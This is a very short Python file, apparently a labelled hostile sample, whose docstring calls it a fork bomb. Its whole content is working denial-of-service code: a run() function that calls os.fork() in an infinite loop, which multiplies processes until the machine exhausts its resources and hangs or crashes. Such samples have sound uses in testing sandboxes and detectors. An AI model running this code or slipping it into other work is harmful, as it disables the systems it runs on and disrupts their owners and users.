"""Hostile: a fork bomb."""
import os


def run():
    while True:
        os.fork()
